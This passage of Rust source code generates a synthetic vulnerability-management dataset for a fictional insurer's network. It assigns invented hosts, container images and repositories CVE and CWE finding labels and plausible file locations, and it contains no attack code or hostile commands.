    SvcPlan { service: "document-management", prefix: "dms", roles: &["app", "ocr", "idx"], net: [10, 23, 0, 0], zone: Zone::App },
    SvcPlan { service: "intranet", prefix: "intra", roles: &["web", "wiki", "cms"], net: [10, 23, 128, 0], zone: Zone::App },
    SvcPlan { service: "customer-portal", prefix: "", roles: &[], net: [10, 128, 0, 0], zone: Zone::App },
];

#[rustfmt::skip]
const DATA_PLANS: &[SvcPlan] = &[
    SvcPlan { service: "policy-issuance", prefix: "pol", roles: &["db"], net: [10, 30, 0, 0], zone: Zone::Data },
    SvcPlan { service: "claims", prefix: "clm", roles: &["db"], net: [10, 31, 0, 0], zone: Zone::Data },
    SvcPlan { service: "hr-payroll", prefix: "hr", roles: &["app", "db", "batch"], net: [10, 32, 0, 0], zone: Zone::Data },
    SvcPlan { service: "data-warehouse", prefix: "dwh", roles: &["db", "etl", "bi"], net: [10, 33, 0, 0], zone: Zone::Data },
];

/// Generates the bulk of one segment, calling `emit` for each asset.
pub(crate) struct SegmentGen<'a> {
    seg: &'a Segment,
    quota: usize,
    done: usize,
    slot: usize,
    index: usize,
    rng: Rng,
}

impl<'a> SegmentGen<'a> {
    pub(crate) fn new(seed: u64, seg: &'a Segment, quota: usize) -> SegmentGen<'a> {
        SegmentGen {
            seg,
            quota,
            done: 0,
            slot: 0,
            index: 0,
            rng: Rng::derive(seed, &format!("{:?}", seg.kind)),
        }
    }

    fn intel_slot(&mut self) -> bool {
        let r = self.seg.intel_rate;
        let j = self.slot as f64;
        self.slot += 1;
        ((j + 1.0) * r).floor() > (j * r).floor()
    }

    /// Picks `k` distinct items from `pool`, spreading intel per the rate.
    fn choose(&mut self, pool: &[Pick], k: usize) -> Vec<Pick> {
        let local = self.seg.local_intel_only;
        let intel: Vec<Pick> = pool.iter().copied().filter(|x| x.intel(local)).collect();
        let plain: Vec<Pick> = pool
            .iter()
            .copied()
            .filter(|x| !x.intel(local) && !x.forbidden(local))
            .collect();
        let mut out: Vec<Pick> = Vec::with_capacity(k);
        let mut seen: HashSet<String> = HashSet::new();
        let distinct = intel.len() + plain.len();
        let k = k.min(distinct);
        let mut guard = 0;
        while out.len() < k && guard < k * 20 {
            guard += 1;
            let want_intel = self.intel_slot();
            let from = if (want_intel && !intel.is_empty()) || plain.is_empty() {
                &intel
            } else {
                &plain
            };
            let x = *self.rng.pick(from);
            if seen.insert(pick_key(&x)) {
                out.push(x);
            } else {
                // Give the slot back so the intel rate holds.
                self.slot -= 1;
            }
        }
        out
    }

    fn seg_range(&self) -> (usize, usize) {
        match self.seg.kind {
            SegKind::Workstations => (2, 7),
            SegKind::Legacy => (4, 10),
            SegKind::AppImages | SegKind::K8sImages | SegKind::SandboxImages => (4, 16),
            SegKind::InScopeRepos | SegKind::OtherRepos => (3, 12),
            _ => (2, 9),
        }
    }

    /// The next asset, or `None` when the quota is used up.
    pub(crate) fn next_asset(&mut self) -> Option<Asset> {
        if self.done >= self.quota {
            return None;
        }
        let (lo, hi) = self.seg_range();
        let remaining = self.quota - self.done;
        let mut k = self.rng.range(lo, hi).min(remaining);
        if remaining - k < lo && remaining <= hi {
            k = remaining;
        }
        let i = self.index;
        self.index += 1;
        let mut asset = match self.seg.kind {
            SegKind::AppServers | SegKind::DataServers => self.service_host(i, k),
            SegKind::Workstations => self.workstation(i, k),
            SegKind::Legacy => self.legacy(i, k),
            SegKind::Lab => self.lab(i, k),
            SegKind::CloudDev => self.cloud_dev(i, k),
            SegKind::Mgmt => self.mgmt(i, k),
            SegKind::K8sNodes => self.k8s_node(i, k),
            SegKind::AppImages | SegKind::K8sImages | SegKind::SandboxImages => self.image(i, k),
            SegKind::InScopeRepos | SegKind::OtherRepos => self.repo(i, k),
        };
        // A Trivy VM scan can push a host over the quota: drop it then.
        match &mut asset {
            Asset::Host(h) if h.trivy_vm && asset_findings_host(h) > remaining => {
                h.trivy_vm = false
            }
            _ => {}
        }
        let n = asset.findings();
        if n == 0 {
            // The pool could not supply anything (cannot happen with the
            // built-in catalogue); stop rather than loop.
            self.done = self.quota;
            return None;
        }
        self.done += n;
        Some(asset)
    }

    fn host_items(&mut self, os: Os, k: usize) -> Vec<HostItem> {
        let pool = os_items(os);
        self.choose(&pool, k)
            .into_iter()
            .filter_map(|x| match x {
                Pick::Item(i) => Some(i),
                _ => None,
            })
            .collect()
    }

    fn service_host(&mut self, i: usize, k: usize) -> Asset {
        let plans = if self.seg.kind == SegKind::AppServers {
            APP_PLANS
        } else {
            DATA_PLANS
        };
        let plan = &plans[i % plans.len()];
        let n = i / plans.len();
        // Core hosts use the first addresses and numbers; the bulk starts at 20.
        let ip = ip_at(plan.net, 20 + n);
        let os = *self
            .rng
            .pick(&[Os::Rhel8, Os::Rhel9, Os::Rhel9, Os::Debian12, Os::Win2019]);
        let (short, fqdn) = if plan.prefix.is_empty() {
            let o: Vec<&str> = ip.split('.').collect();
            let s = format!("ip-{}-{}-{}-{}", o[0], o[1], o[2], o[3]);
            let f = format!("{s}.eu-west-1.compute.internal");
            (s, f)
        } else {
            let role = plan.roles[n % plan.roles.len()];
            let s = format!("{}-{}-{:02}", plan.prefix, role, 20 + n / plan.roles.len());
            let f = format!("{s}.corp.atlantica.example");
            (s, f)
        };
        let scan = if plan.prefix.is_empty() {
            Scan::CloudEuWest1
        } else {
            Scan::DatacenterServers
        };
        let items = self.host_items(os, k);
        // Every fifth Linux datacenter host is also scanned by Trivy.
        let trivy_vm = !plan.prefix.is_empty() && !os.is_windows() && n % 5 == 2;
        Asset::Host(Host {
            short,
            fqdn: Some(fqdn),
            ip,
            os,
            zone: Some(plan.zone),
            service: Some(plan.service),
            scan,
            items,
            trivy_vm,
        })
    }

    fn workstation(&mut self, i: usize, k: usize) -> Asset {
        const SITES: [&str; 4] = ["lis", "mad", "opo", "bcn"];
        let short = format!("wks-{}-{:05}", SITES[i % 4], 1000 + i / 4);
        let os = if self.rng.chance(0.7) {
            Os::Win10
        } else {
            Os::Win11
        };
        let items = self.host_items(os, k);
        Asset::Host(Host {
            fqdn: Some(format!("{short}.corp.atlantica.example")),
            short,
            ip: ip_at([10, 48, 0, 0], i),
            os,
            zone: Some(Zone::CorpLan),
            service: None,
            scan: Scan::Workstations,
            items,
            trivy_vm: false,
        })
    }

    fn legacy(&mut self, i: usize, k: usize) -> Asset {
        let win = i.rem_euclid(3) == 0;
        let os = if win { Os::Win2008 } else { Os::CentOs6 };
        const ROLES: [&str; 5] = ["fin", "print", "fax", "ged", "ora"];
        let short = if win {
            format!("SRV{}{:03}", ROLES[i % 5].to_ascii_uppercase(), i)
        } else {
            format!("lgc-{}-{:03}", ROLES[i % 5], i)
        };
        let items = self.host_items(os, k);
        Asset::Host(Host {
            fqdn: Some(format!(
                "{}.legacy.atlantica.local",
                short.to_ascii_lowercase()
            )),
            short,
            ip: ip_at([172, 16, 8, 0], i),
            os,
            zone: None,
            service: None,
            scan: Scan::LegacyAndLab,
            items,
            trivy_vm: false,
        })
    }

    fn lab(&mut self, i: usize, k: usize) -> Asset {
        let os = *self
            .rng
            .pick(&[Os::Debian11, Os::Debian12, Os::Rhel9, Os::Win2019]);
        const ROLES: [&str; 4] = ["poc", "k3s", "ml", "pentest"];
        let short = format!("lab-{}-{:03}", ROLES[i % 4], i);
        let items = self.host_items(os, k);
        Asset::Host(Host {
            fqdn: Some(format!("{short}.lab.atlantica.example")),
            short,
            ip: ip_at([10, 70, 0, 0], i),
            os,
            zone: None,
            service: None,
            scan: Scan::LegacyAndLab,
            items,
            trivy_vm: false,
        })
    }

    fn cloud_dev(&mut self, i: usize, k: usize) -> Asset {
        let os = *self.rng.pick(&[Os::Rhel9, Os::Debian12, Os::Debian12]);
        let ip = ip_at([10, 129, 0, 0], i);
        let o: Vec<&str> = ip.split('.').collect();
        let short = format!("ip-{}-{}-{}-{}", o[0], o[1], o[2], o[3]);
        let items = self.host_items(os, k);
        Asset::Host(Host {
            fqdn: Some(format!("{short}.eu-west-1.compute.internal")),
            short,
            ip,
            os,
            zone: None,
            service: None,
            scan: Scan::CloudEuWest1,
            items,
            trivy_vm: false,
        })
    }

    fn mgmt(&mut self, i: usize, k: usize) -> Asset {
        const ROLES: [(&str, Os); 5] = [
            ("dc", Os::Win2019),
            ("jump", Os::Win2019),
            ("bkp", Os::Rhel8),
            ("siem", Os::Rhel9),
            ("pki", Os::Win2019),
        ];
        let (role, os) = ROLES[i % ROLES.len()];
        let short = format!("{role}-{:02}", 2 + i / ROLES.len());
        let mut items = self.host_items(os, k);
        if role == "dc" && !items.is_empty() && i.rem_euclid(2) == 0 {
            let z = c("CVE-2020-1472", 445);
            if !items.iter().any(|x| x.key() == z.key()) {
                items[0] = z;
            }
        }
        Asset::Host(Host {
            fqdn: Some(format!("{short}.corp.atlantica.example")),
            short,
            ip: ip_at([10, 90, 0, 0], 20 + i),
            os,
            zone: Some(Zone::Mgmt),
            service: None,
            scan: Scan::DatacenterServers,
            items,
            trivy_vm: false,
        })
    }

    fn k8s_node(&mut self, i: usize, k: usize) -> Asset {
        let short = format!("k8s-node-{:03}", i + 1);
        let items = self.host_items(Os::Rhel9, k);
        Asset::Host(Host {
            fqdn: Some(format!("{short}.corp.atlantica.example")),
            short,
            ip: ip_at([10, 64, 0, 0], 10 + i),
            os: Os::Rhel9,
            zone: Some(Zone::K8s),
            service: None,
            scan: Scan::DatacenterServers,
            items,
            trivy_vm: false,
        })
    }

    fn image(&mut self, i: usize, k: usize) -> Asset {
        // (repository path, service, language, base)
        const APP: &[(&str, &str, Lang, Base)] = &[
            ("claims/claims-api", "claims", Lang::Java, Base::Debian12),
            (
                "claims/fraud-scoring",
                "claims",
                Lang::Python,
                Base::Debian12,
            ),
            ("claims/claims-worker", "claims", Lang::Java, Base::Ubi9),
            (
                "policy/policy-core",
                "policy-issuance",
                Lang::Java,
                Base::Ubi9,
            ),
            (
                "policy/rating-engine",
                "policy-issuance",
                Lang::Go,
                Base::Alpine318,
            ),
            (
                "policy/policy-docs",
                "policy-issuance",
                Lang::TypeScript,
                Base::Alpine318,
            ),
            (
                "broker/broker-api",
                "broker-api",
                Lang::Java,
                Base::Debian12,
            ),
            (
                "broker/broker-ui",
                "broker-api",
                Lang::TypeScript,
                Base::Alpine318,
            ),
        ];
        const K8S: &[(&str, &str, Lang, Base)] = &[
            (
                "dwh/dbt-runner",
                "data-warehouse",
                Lang::Python,
                Base::Debian12,
            ),
            (
                "dwh/ingest-gateway",
                "data-warehouse",
                Lang::Go,
                Base::Alpine318,
            ),
            (
                "dms/ocr-worker",
                "document-management",
                Lang::Python,
                Base::Debian12,
            ),
            (
                "dms/archive-api",
                "document-management",
                Lang::Java,
                Base::Ubi9,
            ),
            (
                "hr/payslip-renderer",
                "hr-payroll",
                Lang::Java,
                Base::Debian12,
            ),
        ];
        const SANDBOX: &[(&str, Lang, Base)] = &[
            (
                "registry.atlantica.example/sandbox/hackathon-chatbot",
                Lang::Python,
                Base::Debian12,
            ),
            (
                "registry.atlantica.example/sandbox/poc-ocr",
                Lang::Python,
                Base::Debian12,
            ),
            (
                "registry.atlantica.example/sandbox/legacy-quote-app",
                Lang::Java,
                Base::Debian12,
            ),
            (
                "ghcr.io/atlantica-labs/metrics-exporter",
                Lang::Go,
                Base::Alpine318,
            ),
            (
                "ghcr.io/atlantica-labs/demo-frontend",
                Lang::TypeScript,
                Base::Alpine318,
            ),
            (
                "docker.io/atlanticaops/jenkins-agent",
                Lang::Java,
                Base::Debian12,
            ),
            (
                "registry.atlantica.example/sandbox/telematics-ingest",
                Lang::Go,
                Base::Alpine318,
            ),
            (
                "registry.atlantica.example/sandbox/pricing-notebook",
                Lang::Python,
                Base::Debian12,
            ),
            (
                "ghcr.io/atlantica-labs/slack-bot",
                Lang::Go,
                Base::Alpine318,
            ),
            (
                "registry.atlantica.example/sandbox/agency-portal-legacy",
                Lang::Java,
                Base::Ubi9,
            ),
            (
                "docker.io/atlanticaops/sonar-scanner",
                Lang::Java,
                Base::Alpine318,
            ),
            (
                "registry.atlantica.example/sandbox/genai-claims-poc",
                Lang::Python,
                Base::Debian12,
            ),
        ];
        let (name, service, lang, base, zone) = match self.seg.kind {
            SegKind::AppImages => {
                let (n, s, l, b) = APP[i % APP.len()];
                (
                    format!("registry.atlantica.example/{n}"),
                    Some(s),
                    l,
                    b,
                    Some(Zone::App),
                )
            }
            SegKind::K8sImages => {
                let (n, s, l, b) = K8S[i % K8S.len()];
                (
                    format!("registry.atlantica.example/{n}"),
                    Some(s),
                    l,
                    b,
                    Some(Zone::K8s),
                )
            }
            _ => {
                let (n, l, b) = SANDBOX[i % SANDBOX.len()];
                let zone = n
                    .starts_with("registry.atlantica.example/")
                    .then_some(Zone::K8s);
                (n.to_string(), None, l, b, zone)
            }
        };
        let len = match self.seg.kind {
            SegKind::AppImages => APP.len(),
            SegKind::K8sImages => K8S.len(),
            _ => SANDBOX.len(),
        };
        // Repeat names get a numbered variant so each image is its own asset.
        let round = i / len;
        let name = if round == 0 {
            name
        } else {
            format!("{name}-{round}")
        };
        let tag = format!("{}.{}.{}", 1 + (i % 4), (i * 7) % 12, (i * 3) % 9);
        let pool = image_items(base, lang);
        let vulns = self
            .choose(&pool, k)
            .into_iter()
            .filter_map(|x| match x {
                Pick::Vuln(c) => Some(c),
                _ => None,
            })
            .collect();
        let app = match lang {
            Lang::Java => format!("app/{}.jar", short_name(&name)),
            Lang::Go => format!("usr/local/bin/{}", short_name(&name)),
            _ => "app".to_string(),
        };
        Asset::Image(Image {
            name,
            tag,
            base,
            lang,
            app,
            zone,
            service,
            vulns,
        })
    }

    fn repo(&mut self, i: usize, k: usize) -> Asset {
        const IN: &[(&str, &str, Lang)] = &[
            ("customer-portal-web", "customer-portal", Lang::TypeScript),
            ("claims-core", "claims", Lang::Java),
            ("policy-core", "policy-issuance", Lang::Java),
            ("broker-gateway", "broker-api", Lang::Java),
            ("customer-portal-api", "customer-portal", Lang::Java),
            ("claims-fraud-model", "claims", Lang::Python),
            ("policy-rating", "policy-issuance", Lang::Go),
            ("data-platform-dbt", "data-warehouse", Lang::Python),
            ("hr-payslips", "hr-payroll", Lang::Java),
            ("dms-archive", "document-management", Lang::Java),
            ("claims-adjuster-app", "claims", Lang::TypeScript),
            ("policy-quote-engine", "policy-issuance", Lang::Java),
            ("broker-sftp-bridge", "broker-api", Lang::Go),
            (
                "customer-portal-notifications",
                "customer-portal",
                Lang::Python,
            ),
        ];
        const OUT: &[(&str, Lang)] = &[
            ("atlantica-labs/genai-claims-poc", Lang::Python),
            ("atlantica/hackathon-2024-chatbot", Lang::TypeScript),
            ("atlantica/legacy-quote-struts", Lang::Java),
            ("atlantica-labs/terraform-sandbox", Lang::Go),
            ("jsilva-atlantica/portal-fork", Lang::TypeScript),
            ("atlantica-labs/ocr-experiments", Lang::Python),
            ("atlantica/intranet-2015-archive", Lang::Java),
            ("atlantica-labs/k6-load-tests", Lang::TypeScript),
            ("mferreira-atlantica/pricing-notebooks", Lang::Python),
            ("atlantica-labs/slack-bot", Lang::Go),
            ("atlantica/agency-portal-legacy", Lang::Java),
            ("atlantica-labs/telematics-poc", Lang::Python),
        ];
        let (path, service, lang) = if self.seg.kind == SegKind::InScopeRepos {
            let (n, s, l) = IN[i % IN.len()];
            (format!("atlantica/{n}"), Some(s), l)
        } else {
            let (n, l) = OUT[i % OUT.len()];
            (n.to_string(), None, l)
        };
        let len = if self.seg.kind == SegKind::InScopeRepos {
            IN.len()
        } else {
            OUT.len()
        };
        let round = i / len;
        let path = if round == 0 {
            path
        } else {
            format!("{path}-{round}")
        };
        let pool = repo_items(lang);
        let picks = self.choose(&pool, k);
        let mut code = Vec::new();
        let mut deps = Vec::new();
        for x in picks {
            match x {
                Pick::Code(rule) => {
                    let (file, line) = code_location(&mut self.rng, rule, lang, &path);
                    code.push(CodeFinding { rule, file, line });
                }
                Pick::Vuln(c) => deps.push(c),
                Pick::Item(_) => {}
            }
        }
        Asset::Repo(Repo {
            url: format!("https://github.com/{path}"),
            service,
            code,
            deps,
        })
    }
}

fn asset_findings_host(h: &Host) -> usize {
    h.items.len() + if h.trivy_vm { h.vm_packages().len() } else { 0 }
}

fn pick_key(x: &Pick) -> String {
    match x {
        Pick::Item(i) => i.key(),
        Pick::Vuln(c) => format!("{}|{}", c.id, c.pkg),
        Pick::Code(r) => r.id.to_string(),
    }
}

fn short_name(image: &str) -> &str {
    image.rsplit('/').next().unwrap_or(image)
}

/// A plausible file and line for a code finding.
pub(crate) fn code_location(
    rng: &mut Rng,
    rule: &CodeRule,
    lang: Lang,
    repo: &str,
) -> (String, u32) {
    let module = repo.rsplit('/').next().unwrap_or(repo).replace('-', "");
    let line = rng.range(12, 480) as u32;
    if rule.cwe == "CWE-798" && rule.lang == Lang::Any {
        let files = [
            "src/main/resources/application-prod.yml",
            "deploy/helm/values-prod.yaml",
            "scripts/sync_s3.sh",
            ".github/workflows/deploy.yml",
        ];
        return (rng.pick(&files).to_string(), rng.range(3, 60) as u32);
    }
    let stem = match rule.cwe {
        "CWE-89" => *rng.pick(&["QuoteRepository", "ClaimSearch", "PolicyDao", "ReportQuery"]),
        "CWE-79" => *rng.pick(&["quoteView", "claimStatus", "searchResults"]),
        "CWE-22" => *rng.pick(&["DocumentDownload", "AttachmentStore", "ExportService"]),
        "CWE-502" => "SessionCodec",
        "CWE-918" => "WebhookClient",
        "CWE-611" => "AcordXmlParser",
        "CWE-798" => *rng.pick(&["PaymentGatewayClient", "SmtpConfig", "jwt"]),
        "CWE-78" => "pdf_render",
        "CWE-117" => "AuditLogger",
        _ => "CryptoUtil",
    };
    let file = match lang {
        Lang::Java => format!("src/main/java/com/atlantica/{module}/{stem}.java"),
        Lang::TypeScript => format!("src/routes/{}.ts", stem.to_ascii_lowercase()),
        Lang::Python => format!("{module}/{}.py", stem.to_ascii_lowercase()),
        Lang::Go => format!("internal/{}/{}.go", module, stem.to_ascii_lowercase()),
        Lang::Any => format!("src/{stem}"),
    };
    (file, line)
}
